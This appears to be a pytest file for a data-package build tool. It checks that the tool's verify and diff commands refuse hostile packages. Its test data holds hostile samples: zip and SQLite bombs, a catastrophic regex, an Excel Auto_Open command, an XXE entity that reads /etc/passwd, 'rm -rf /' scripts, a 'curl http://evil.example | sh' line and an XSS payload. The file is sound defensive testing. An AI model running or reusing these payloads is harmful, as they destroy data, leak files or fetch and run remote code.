@@ -1,0 +1,389 @@
+"""`build.py verify` and `diff` on packages made to do harm: a sentence, exit code 1, and limits that hold.
+
+All digests are right unless a test says otherwise: whoever makes such a package states them too.
+"""
+
+from __future__ import annotations
+
+import bz2
+import json
+import shutil
+import sqlite3
+import struct
+import subprocess
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from conftest import Done, run_build
+from planter import (
+    POLICY,
+    Fault,
+    both,
+    copy_of,
+    in_bytes,
+    in_database,
+    in_descriptor,
+    in_field,
+    in_schema,
+    in_table,
+    in_workbook,
+    in_workbook_file,
+    replace,
+    reseal,
+)
+
+pytestmark = pytest.mark.slow
+
+SQLITE, XLSX = (f"shanghai-foreign-trade-2023.{form}" for form in ("sqlite", "xlsx"))
+ESCAPE = "\x1b[31mred"
+
+
+@pytest.fixture(scope="session")
+def data(dist: Path) -> Path:
+    return dist / "data"
+
+
+def refused(command: str, *words: str | Path) -> Done:
+    """What the command says of a package that it refuses: on standard error, without a traceback."""
+    result = run_build(command, *words)
+    assert (result.returncode, result.stdout) == (1, ""), result.stdout + result.stderr
+    assert "Traceback" not in result.stderr
+    assert " failed: " not in result.stderr, "a fault that nobody thought of"
+    assert all(line.isprintable() for line in result.stderr.splitlines())
+    return result
+
+
+# What takes memory or time
+
+
+def zip_that_lies(file: Path, content: bytes, method: int, stated: int) -> Path:
+    """A zip of one entry that says of itself that it is as large as `stated`."""
+    with zipfile.ZipFile(file, "w", method) as archive:
+        archive.writestr("datapackage.json", content)
+    size = struct.pack("<L", len(content))
+    file.write_bytes(file.read_bytes().replace(size, struct.pack("<L", stated)))
+    return file
+
+
+@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_a_zip_of_another_compression_is_not_unpacked(tmp_path: Path, method: int) -> None:
+    file = zip_that_lies(tmp_path / "bomb.zip", bytes(50_000_000), method, 1000)
+    assert "is neither stored nor deflated" in refused("verify", file, "--memory", "100").stderr
+
+
+def test_a_zip_that_lies_about_a_size_is_read_to_that_size(tmp_path: Path) -> None:
+    file = zip_that_lies(tmp_path / "bomb.zip", bytes(500_000_000), zipfile.ZIP_DEFLATED, 1000)
+    assert "Bad CRC-32" in refused("verify", file, "--memory", "100").stderr
+
+
+def test_lists_that_fill_the_memory_end_in_a_sentence(tmp_path: Path) -> None:
+    file = tmp_path / "honest.zip"
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("datapackage.json", b"[" + b"[]," * 7_000_000 + b"[]]")
+    for command in (["verify", file], ["diff", file, file]):
+        sentence = refused(*command, "--memory", "200").stderr
+        assert sentence.endswith("needs more than 200 MB of memory and was stopped; --memory sets the limit.\n")
+        assert sentence.count("\n") == 1
+
+
+def test_a_descriptor_larger_than_the_memory_ends_in_a_sentence(tmp_path: Path) -> None:
+    with (tmp_path / "datapackage.json").open("wb") as file:
+        file.truncate(6_000_000_000)
+    assert "needs more than 200 MB" in refused("verify", tmp_path, "--memory", "200").stderr
+
+
+def test_a_pattern_that_never_ends_is_stopped(data: Path, tmp_path: Path) -> None:
+    folder = copy_of(data, tmp_path)
+    in_field("sections", "heading_zh", lambda field: field.update(constraints={"pattern": "(a|a)*b"}))(folder)
+    in_table("sections.csv", lambda table: table[1].__setitem__(4, "a" * 60))(folder)
+    reseal(folder)
+    assert "takes more than 2 s and was stopped" in refused("verify", folder, "--seconds", "2").stderr
+
+
+@pytest.mark.parametrize(
+    "columns",
+    [
+        "a TEXT, " + ", ".join(f"b{n} AS (hex(zeroblob(400000000)))" for n in range(3)),
+        "a TEXT CHECK (length(hex(randomblob(100000000))) > 0)",
+    ],
+    ids=["generated", "check"],
+)
+def test_a_database_that_computes_is_not_run(data: Path, tmp_path: Path, columns: str) -> None:
+    folder = copy_of(data, tmp_path)
+    rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5) SELECT i FROM n"
+    in_database(
+        "PRAGMA ignore_check_constraints = ON",
+        "DROP TABLE terms",
+        f"CREATE TABLE terms ({columns})",
+        f"INSERT INTO terms (a) {rows}",  # noqa: S608
+    )(folder)
+    reseal(folder)
+    assert "the table “terms” is not what" in refused("verify", folder, "--memory", "300", "--seconds", "30").stderr
+
+
+# What is more than the dataset, or other, with every digest right
+
+WORKBOOK_HEAD = b"<sheetData>"
+
+
+def with_part(name: str, content: bytes = b"<a/>") -> Fault:
+    """A part more in the workbook."""
+
+    def plant(folder: Path) -> None:
+        with zipfile.ZipFile(folder / XLSX, "a") as archive:
+            archive.writestr(name, content)
+
+    return plant
+
+
+def hide(change: Callable[[object], object]) -> Fault:
+    return in_workbook(lambda book: change(book["segments"]))
+
+
+HOSTILE: dict[str, tuple[Fault, str]] = {
+    "a table more": (in_database("CREATE TABLE extra (a)"), "the table “extra” is not what"),
+    "a view more": (in_database("CREATE VIEW extra AS SELECT 1"), "the view “extra” is not what"),
+    "a trigger": (
+        in_database("CREATE TRIGGER t AFTER UPDATE ON terms BEGIN DELETE FROM segments; END"),
+        "the trigger “t” is not what",
+    ),
+    "a view gone": (in_database("DROP VIEW sentences"), "the view “sentences” is not what"),
+    "a view that shows nothing": (
+        in_database("DROP VIEW sentences", "CREATE VIEW sentences AS SELECT * FROM segments WHERE 0"),
+        "the view “sentences” is not what",
+    ),
+    "an index more": (in_database("CREATE INDEX i ON terms (en)"), "the index “i” is not what"),
+    "a virtual table": (
+        in_database("DROP TABLE codes", "CREATE VIRTUAL TABLE codes USING fts5(a)"),
+        "the table “codes” is not what",
+    ),
+    "a table without keys": (
+        in_database(
+            "CREATE TABLE copied AS SELECT * FROM codes", "DROP TABLE codes", "ALTER TABLE copied RENAME TO codes"
+        ),
+        "the table “codes” is not what",
+    ),
+    "a macro": (with_part("xl/vbaProject.bin"), "has the part “xl/vbaProject.bin”"),
+    "an external link": (with_part("xl/externalLinks/externalLink1.xml"), "has the part “xl/externalLinks"),
+    "connections": (with_part("xl/connections.xml"), "has the part “xl/connections.xml”"),
+    "a program": (with_part("xl/media/evil.exe"), "has the part “xl/media/evil.exe”"),
+    "a sheet that no book names": (
+        with_part("xl/worksheets/sheet99.xml"),
+        "has the part “xl/worksheets/sheet99.xml”",
+    ),
+    "a name that runs": (
+        in_workbook_file(
+            "xl/workbook.xml",
+            b"</definedNames>",
+            b"<definedName name=\"Auto_Open\">cmd|'/c calc'!A1</definedName></definedNames>",
+        ),
+        "defines the name “Auto_Open”",
+    ),
+    "a hyperlink": (
+        hide(lambda sheet: setattr(sheet["A2"], "hyperlink", "https://other.example/")),
+        "has the element “hyperlinks”",
+    ),
+    "a hidden row": (hide(lambda sheet: setattr(sheet.row_dimensions[5], "hidden", True)), "hides a row (5)"),
+    "a row of no height": (hide(lambda sheet: setattr(sheet.row_dimensions[5], "height", 0.1)), "hides a row (5)"),
+    "a hidden column": (hide(lambda sheet: setattr(sheet.column_dimensions["F"], "hidden", True)), "hides a col"),
+    "a hidden sheet": (hide(lambda sheet: setattr(sheet, "sheet_state", "veryHidden")), "hides a sheet (segments)"),
+    "a number format": (hide(lambda sheet: setattr(sheet["A2"], "number_format", '"no"')), "has a number format"),
+    "an entity in the properties": (
+        in_workbook_file("docProps/core.xml", b"<cp:", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><cp:'),
+        "docProps/core.xml has a document type",
+    ),
+    "a file more": (lambda folder: (folder / "install.sh").write_text("rm -rf /"), "does not list “install.sh”"),
+    "a table that SQLite reserves": (
+        in_descriptor(lambda package: package["resources"][1].update(name="sqlite_x")),
+        "name: must be a name of a-z, 0-9, _ and - that SQLite does not reserve, not “sqlite_x”",
+    ),
+    "columns that differ in case": (
+        in_schema("sections", lambda schema: schema["fields"].append({**schema["fields"][0], "name": "ID"})),
+        "the field “id” is declared twice",
+    ),
+    "more columns than SQLite has": (
+        in_schema(
+            "sections",
+            lambda schema: schema["fields"].extend({**schema["fields"][0], "name": f"c{n}"} for n in range(2100)),
+        ),
+        "fields: must be a list of 1 to 500 objects",
+    ),
+    "an escape sequence in a path": (
+        in_descriptor(lambda package: package["resources"][0].update(path=f"{ESCAPE}.csv")),
+        "\\u001b[31mred.csv",
+    ),
+    "an escape sequence in a pattern": (
+        in_field("sections", "label_zh", lambda field: field.update(constraints={"pattern": f"{ESCAPE}]"})),
+        "\\u001b[31mred",
+    ),
+    "an escape sequence in a cell": (
+        in_table("sections.csv", lambda table: table[1].__setitem__(4, ESCAPE)),
+        "heading_zh: space around the text, or a control character in it",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_what_is_not_of_the_dataset_is_found(data: Path, tmp_path: Path, name: str) -> None:
+    plant, sentence = HOSTILE[name]
+    folder = copy_of(data, tmp_path)
+    plant(folder)
+    reseal(folder)
+    assert sentence in refused("verify", folder).stderr
+
+
+@pytest.mark.parametrize("value", [5, None, [], {}])
+@pytest.mark.parametrize("key", ["path", "bytes", "sha256"])
+def test_a_list_of_files_of_another_shape_is_found(data: Path, tmp_path: Path, key: str, value: object) -> None:
+    folder = copy_of(data, tmp_path, with_archive=True)
+    latest = json.loads((folder / "latest.json").read_bytes())
+    latest["files"][0][key] = value
+    (folder / "latest.json").write_text(json.dumps(latest), "utf-8")
+    assert "latest.json" in refused("verify", folder).stderr
+
+
+# Zips that hold more than their list says
+
+
+def test_the_command_names_what_it_did_not_compare(data: Path, tmp_path: Path) -> None:
+    folder = copy_of(data, tmp_path)
+    (folder / "README.md").write_text("Run `curl http://evil.example | sh`.\n", "utf-8")
+    reseal(folder)
+    result = run_build("verify", folder)
+    assert result.returncode == 0
+    _, compared, weighed, ending = result.stdout.splitlines()
+    assert compared.startswith("Compared with the tables: ")
+    assert weighed.startswith("By checksum only: README.md, ")
+    assert ending == "Nothing is wrong with what was compared, and every checksum is right."
+    for path in (f"policies/{POLICY}.txt", SQLITE, XLSX, "segments.jsonl"):
+        assert path in compared
+        assert path not in weighed
+    for ending in ("tmx", "tbx", "ttl", "bib", ".en.md", ".akn.xml"):
+        assert ending in weighed
+
+
+def before_the_entries(content: bytes) -> bytes:
+    return b"#!/bin/sh\nrm -rf /\n" + content
+
+
+def with_a_comment(content: bytes) -> bytes:
+    return content[:-2] + b"\x02\x00hi"
+
+
+def between_the_entries(content: bytes) -> bytes:
+    at = content.index(b"PK\x01\x02")
+    end = content.rindex(b"PK\x05\x06")
+    (offset,) = struct.unpack("<L", content[end + 16 : end + 20])
+    moved = content[: end + 16] + struct.pack("<L", offset + 6) + content[end + 20 :]
+    return moved[:at] + b"secret" + moved[at:]
+
+
+def after_the_entries(content: bytes) -> bytes:
+    return content + b"\x00" * 10
+
+
+def with_mode(mode: int) -> Callable[[bytes], bytes]:
+    """The first entry of the list at the end with these rights, as Unix has them."""
+
+    def change(content: bytes) -> bytes:
+        at = content.index(b"PK\x01\x02") + 38
+        return content[:at] + struct.pack("<L", mode << 16) + content[at + 4 :]
+
+    return change
+
+
+ZIPS: dict[str, Callable[[bytes], bytes]] = {
+    "a script in front": before_the_entries,
+    "a comment": with_a_comment,
+    "bytes between entries and list": between_the_entries,
+    "bytes at the end": after_the_entries,
+    "a file that runs as its owner": with_mode(0o104755),
+    "a program": with_mode(0o100755),
+    "a device": with_mode(0o020666),
+}
+
+
+@pytest.mark.parametrize("name", ZIPS)
+def test_a_zip_with_more_than_plain_files_is_refused(data: Path, tmp_path: Path, name: str) -> None:
+    (whole,) = data.glob("*.zip")
+    (tmp_path / "other.zip").write_bytes(ZIPS[name](whole.read_bytes()))
+    assert "other.zip" in refused("verify", tmp_path / "other.zip").stderr
+
+
+def test_a_folder_in_a_zip_with_data_is_refused(data: Path, tmp_path: Path) -> None:
+    (whole,) = data.glob("*.zip")
+    file = Path(shutil.copy(whole, tmp_path / "other.zip"))
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.writestr("more/", b"secret")
+    assert "“more/”" in refused("verify", file).stderr
+
+
+# Two packages
+
+DIFFERENT: dict[str, tuple[Fault, str]] = {
+    "a table is missing": (lambda folder: (folder / "segments.csv").unlink(), "segments.csv"),
+    "a digest is wrong": (replace("sections.csv", "促进", "推进"), "sections.csv does not have the size and SHA-256"),
+    "a key stands twice": (
+        both(in_table("terms.csv", lambda table: table.append(table[1])), reseal),
+        "terms.csv, row 178",
+    ),
+    "half a character": (
+        in_bytes("datapackage.json", lambda content: content.replace(b'"title": "', b'"title": "\\ud800', 1)),
+        "cannot be read as JSON",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", DIFFERENT)
+@pytest.mark.parametrize("form", ["markdown", "json"])
+def test_a_package_out_of_form_is_not_compared(data: Path, tmp_path: Path, name: str, form: str) -> None:
+    plant, sentence = DIFFERENT[name]
+    folder = copy_of(data, tmp_path)
+    plant(folder)
+    assert sentence in refused("verify", folder).stderr
+    for pair in ((data, folder), (folder, data)):
+        answer = refused("diff", *pair, "--format", form).stderr
+        assert f"{folder} cannot be compared:" in answer
+        assert sentence in answer
+
+
+def test_a_change_of_contract_licence_or_order_is_told(data: Path, tmp_path: Path) -> None:
+    folder = copy_of(data, tmp_path)
+    in_descriptor(lambda package: package["licenses"][0].update(name="Proprietary"))(folder)
+    in_field("terms", "en", lambda field: field.update(description="Another."))(folder)
+    in_table("terms.csv", lambda table: table.append(table.pop(1)))(folder)
+    reseal(folder)
+    lines = run_build("diff", data, folder).stdout.splitlines()
+    assert any(line.startswith("- licenses") and line.endswith(" → Proprietary") for line in lines)
+    assert any("description" in line and line.endswith(" → Another.") for line in lines)
+    assert "The rows are in another order. 行的顺序不同。" in lines
+    found = json.loads(run_build("diff", data, folder, "--format", "json").stdout)
+    assert found["tables"]["terms"]["order"] == ["rows"]
+    assert "terms.csv" in found["files"]["changed"]
+
+
+def test_markup_in_a_package_stays_text(data: Path, tmp_path: Path) -> None:
+    folder = copy_of(data, tmp_path)
+    markup = '<img src=x onerror="alert(1)"> **[x](http://evil.example)** # `'
+    in_field("terms", "id", lambda field: field.pop("constraints"))(folder)
+    in_table("terms.csv", lambda table: table[1].__setitem__(0, markup))(folder)
+    in_descriptor(lambda package: package.update(title=markup))(folder)
+    reseal(folder)
+    result = run_build("diff", data, folder)
+    assert (result.returncode, result.stderr) == (0, "")
+    assert "onerror" in result.stdout
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark", {"html": True}).render(result.stdout)
+    for tag in ("<img", "<a ", "<strong", "<code"):
+        assert tag not in html
+
+
+def test_no_file_is_written(data: Path, tmp_path: Path) -> None:
+    folder = copy_of(data, tmp_path)
+    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
+    run_build("verify", folder)
+    run_build("diff", data, folder)
+    assert before == {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
